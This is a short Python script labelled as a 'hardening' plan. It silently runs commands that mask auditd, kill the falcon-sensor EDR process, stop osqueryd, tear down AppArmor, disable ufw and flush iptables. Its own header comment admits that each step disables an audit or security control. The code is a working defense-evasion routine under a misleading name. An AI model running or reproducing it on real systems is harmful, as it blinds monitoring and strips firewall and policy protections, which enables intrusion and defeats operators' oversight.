# A "hardening" table of commands run in a loop: each one stops an audit or
# EDR agent, AppArmor or the firewall; the calls show no command at all.
import subprocess

PLAN = {
    "logging": [["systemctl", "mask", "--now", "auditd"]],
    "agents": [["pkill", "-f", "falcon-sensor"], ["service", "osqueryd", "stop"]],
    "policy": ["aa-teardown", "ufw --force disable", "iptables --flush"],
}

for steps in PLAN.values():
    for step in steps:
        argv = step.split() if isinstance(step, str) else step
        subprocess.run(argv, check=False)
